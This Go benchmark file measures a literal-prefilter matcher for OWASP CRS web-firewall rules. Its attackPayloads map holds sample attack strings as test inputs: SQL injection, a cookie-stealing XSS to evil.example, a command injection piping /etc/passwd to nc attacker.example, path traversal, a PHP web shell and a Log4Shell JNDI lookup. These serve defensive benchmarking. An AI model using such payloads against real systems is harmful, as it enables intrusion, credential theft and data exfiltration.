package rxfilter

import (
	"regexp"
	"testing"
)

// attackPayloads are CRS-style attack values.
var attackPayloads = map[string]string{
	"sqli":  "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
	"xss":   `<script>document.location='http://evil.example/?c='+document.cookie</script>`,
	"rce":   ";cat /etc/passwd | nc attacker.example 4444",
	"lfi":   "../../../../etc/shadow%00.png",
	"php":   `<?php system($_GET["cmd"]); ?>`,
	"java":  "${jndi:ldap://evil.example/a}",
	"sleep": "1 AND SLEEP(5)",
}

func benchMatcher(b *testing.B) *Matcher {
	b.Helper()
	rules, phrases, _ := loadCRS(b)
	m, err := NewMatcher(crsLiterals(rules, phrases))
	if err != nil {
		b.Fatal(err)
	}
	return m
}

// BenchmarkFind runs one Matcher of all CRS rx literals and .data phrases
// (about 8,200) over single values.
func BenchmarkFind(b *testing.B) {
	m := benchMatcher(b)
	hits := make([]uint64, (m.Len()+63)/64)
	values := []struct{ name, v string }{
		{"user-agent", benignValues[10]},
		{"accept", benignValues[11]},
		{"cookie", benignValues[15]},
		{"short-arg", "price_asc"},
		{"uri", benignValues[1]},
	}
	for name, v := range attackPayloads {
		values = append(values, struct{ name, v string }{"attack-" + name, v})
	}
	for _, tc := range values {
		b.Run(tc.name, func(b *testing.B) {
			b.SetBytes(int64(len(tc.v)))
			b.ReportAllocs()
			for b.Loop() {
				m.Find(tc.v, hits)
			}
		})
	}
}

func BenchmarkNewMatcher(b *testing.B) {
	rules, phrases, _ := loadCRS(b)
	lits := crsLiterals(rules, phrases)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := NewMatcher(lits); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRequired analyses every CRS rx pattern once per iteration.
func BenchmarkRequired(b *testing.B) {
	rules, _, _ := loadCRS(b)
	b.ReportAllocs()
	for b.Loop() {
		for _, r := range rules {
			if _, _, err := Required(r.Pattern); err != nil {
				b.Fatal(err)
			}
		}
	}
}

// BenchmarkScreen compares running every CRS rx operator that has literals
// on a benign request's values with running one Find per value and only the
// regexps of the rules whose literals it hit.
func BenchmarkScreen(b *testing.B) {
	rules, _, _ := loadCRS(b)
	var res []*regexp.Regexp
	var all []string
	var owner []int
	for _, r := range rules {
		lits, ok, err := Required(r.Pattern)
		if err != nil || !ok {
			continue
		}
		for _, l := range lits {
			all = append(all, l)
			owner = append(owner, len(res))
		}
		res = append(res, regexp.MustCompile(r.Pattern))
	}
	m, err := NewMatcher(all)
	if err != nil {
		b.Fatal(err)
	}
	b.Run("all-regexps", func(b *testing.B) {
		for b.Loop() {
			for _, v := range benignValues {
				for _, re := range res {
					re.MatchString(v)
				}
			}
		}
	})
	b.Run("find-then-hit-regexps", func(b *testing.B) {
		hits := make([]uint64, (m.Len()+63)/64)
		run := make([]bool, len(res))
		b.ReportAllocs()
		for b.Loop() {
			for _, v := range benignValues {
				clear(hits)
				clear(run)
				m.Find(v, hits)
				for id, w := range hits {
					for ; w != 0; w &= w - 1 {
						run[owner[id*64+trailingZeros(w)]] = true
					}
				}
				for i, re := range res {
					if run[i] {
						re.MatchString(v)
					}
				}
			}
		}
	})
}

func trailingZeros(w uint64) int {
	n := 0
	for w&1 == 0 {
		w >>= 1
		n++
	}
	return n
}
